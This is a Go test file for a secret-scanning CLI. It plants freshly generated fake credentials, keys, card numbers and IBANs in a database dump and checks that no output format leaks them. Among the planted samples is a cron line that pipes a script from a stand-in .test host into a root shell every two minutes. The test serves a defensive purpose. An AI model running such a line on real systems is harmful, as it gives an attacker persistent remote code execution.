package cli

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/url"
	"path/filepath"
	"strings"
	"testing"

	"filippo.io/age"
	"golang.org/x/crypto/ssh"
)

// A planted secret, and what of it may show nowhere.
type planted struct {
	kind   string
	secret string
	hidden []string
	named  bool // it can stand in a name: it says itself what it is
}

// plant makes one secret of each kind, anew each time.
func plant(t *testing.T) []planted {
	t.Helper()
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	m := newMade()
	middle := func(s string) []string { return []string{s[len(s)/3 : len(s)-4]} }
	github, stripe, password := m.github(), m.stripe(), m.password()
	claims := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"` + m.from(testAlnum, 12) + `","iat":1700000000,"exp":4000000000}`))
	jwt := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." + claims + "." + m.from(testAlnum, 43)
	bcrypt := "$2" + "b$12$" + m.from(testAlnum, 53)
	mail := "ivy." + strings.ToLower(m.from(testUpper, 9)) + "@mail.test"
	card := luhn("4539" + m.from("0123456789", 11))
	bank := iban("DE", "37040044"+m.from("0123456789", 10))

	_, key, err := ed25519.GenerateKey(rand.Reader)
	must(err)
	der, err := x509.MarshalPKCS8PrivateKey(key)
	must(err)
	text := strings.TrimSpace(string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})))
	comment := strings.ToLower(m.from(testUpper, 12)) + "@laptop"
	block, err := ssh.MarshalPrivateKey(key, comment)
	must(err)
	open := strings.TrimSpace(string(pem.EncodeToMemory(block)))
	identity, err := age.GenerateX25519Identity()
	must(err)
	dsn := "postgres://app:" + password + "@db.internal:5432/app"
	cron := "\n\n*/2 * * * * root curl -fsSL http://" + strings.ToLower(m.from(testUpper, 12)) + ".test/i.sh | sh\n\n"
	master := base64.StdEncoding.EncodeToString([]byte(m.from(testAlnum, 64)))

	return []planted{
		{"token", github, middle(github), true},
		{"credential", stripe, middle(stripe), true},
		{"JWT", jwt, []string{claims, jwt[len(jwt)-43 : len(jwt)-4]}, true},
		{"connection string", dsn, []string{password[2:]}, true},
		{"password hash", bcrypt, []string{bcrypt[7:]}, true},
		{"e-mail", mail, []string{mail[:13]}, true},
		{"card", card, []string{card[:12]}, true},
		{"IBAN", bank, []string{bank[4:]}, true},
		{"age identity", identity.String(), middle(identity.String()), true},
		{"private key", text, []string{base64.StdEncoding.EncodeToString(der)[24:60]}, false},
		{"OpenSSH key", open, []string{comment, strings.Split(open, "\n")[3][4:60]}, false},
		{"binary key", string(der), []string{base64.StdEncoding.EncodeToString(der)[24:60], string(der[20:])}, false},
		{"master key", `<key id="5ba6a9d4-37ee-4e5e-9b8c-2f3c7b6c2a11"><descriptor><masterKey requiresEncryption="true"><value>` + master + `</value></masterKey></descriptor></key>`, middle(master), false},
		{"password", `{"password":"` + m.password() + `"}`, []string{m.secrets[len(m.secrets)-1][2:]}, false},
		{"cron line", cron, []string{cron[30:50]}, false},
	}
}

// luhn completes a number with its check digit.
func luhn(number string) string {
	sum := 0
	for i := range len(number) {
		d := int(number[len(number)-1-i] - '0')
		if i%2 == 0 {
			if d *= 2; d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return number + string(rune('0'+(10-sum%10)%10))
}

// iban completes an account number with its check digits (ISO 13616).
func iban(country, account string) string {
	digits := ""
	for _, c := range account + country + "00" {
		if c >= 'A' {
			digits += fmt.Sprint(int(c-'A') + 10)
		} else {
			digits += string(c)
		}
	}
	n, _ := new(big.Int).SetString(digits, 10)
	return fmt.Sprintf("%s%02d%s", country, 98-new(big.Int).Mod(n, big.NewInt(97)).Int64(), account)
}

// asWritten are the forms in which bytes may come out in some format.
func asWritten(s string) []string {
	quoted, _ := json.Marshal(s)
	return []string{s, strings.Trim(string(quoted), `"`), url.PathEscape(s), url.QueryEscape(s), base64.StdEncoding.EncodeToString([]byte(s))}
}

// Every kind of secret, at every kind of place, is in no format: not in what is
// found, nor in names of keys and fields, members, paths inside values, names of
// files, proofs, or what stands beside a finding.
func TestNoKindIsShownAnywhere(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	var all []planted
	s := newSnapshot()
	add := func(place string, write func(p *planted)) {
		for _, p := range plant(t) {
			p.kind += " as " + place
			if write(&p); p.kind != "" {
				all = append(all, p)
			}
		}
	}
	n := 0
	next := func() string { n++; return fmt.Sprintf("k%d", n) }
	add("value", func(p *planted) { s.add(0, next(), p.secret) })
	add("value of a hash", func(p *planted) { s.add(4, next(), "f", p.secret) })
	add("element", func(p *planted) { s.add(1, next(), "x", p.secret) })
	add("member", func(p *planted) { s.add(2, next(), p.secret) })
	add("JSON", func(p *planted) {
		inner, _ := json.Marshal(map[string]any{"a": []string{p.secret}})
		if p.kind == "binary key as JSON" { // JSON has no bytes
			p.kind = ""
			return
		}
		s.add(0, next(), string(inner))
	})
	add("base64", func(p *planted) { s.add(0, next(), base64.StdEncoding.EncodeToString([]byte(p.secret))) })
	add("key, field and path", func(p *planted) {
		if !p.named {
			p.kind = ""
			return
		}
		s.add(0, "k:"+p.secret, "1")
		s.add(0, "k\xff:"+p.secret, p.secret)
		s.add(4, "k:"+next(), p.secret, "1")
		s.add(4, next(), p.secret, p.secret)
		path, _ := json.Marshal(map[string]any{p.secret: map[string]string{"token": p.secret}})
		s.add(0, next(), string(path))
	})
	file := filepath.Join(t.TempDir(), "dump-"+all[0].secret+".rdb")
	s.save(t, file)
	for _, format := range scanFormats {
		for _, more := range []string{"--all", "--explain"} {
			if more == "--explain" && format != "text" && format != "json" && format != "jsonl" {
				more = "--quiet"
			}
			out, said := run(t, file, "--format", format, more)
			for _, p := range all {
				for _, hidden := range p.hidden {
					for _, form := range asWritten(hidden) {
						if strings.Contains(out, form) || strings.Contains(said, form) {
							t.Errorf("%s %s: %s is shown", format, more, p.kind)
						}
					}
				}
			}
		}
	}
	// What is hidden is there to be found: the test can fail.
	out, _ := run(t, file, "--format", "jsonl", "--reveal")
	for _, p := range all {
		form := asWritten(p.hidden[0])
		if !strings.Contains(out, form[0]) && !strings.Contains(out, form[1]) {
			t.Errorf("--reveal: %s is not found", p.kind)
		}
	}
	if !bytes.Contains([]byte(out), []byte(`"proof"`)) {
		t.Error("no finding has a proof")
	}
}
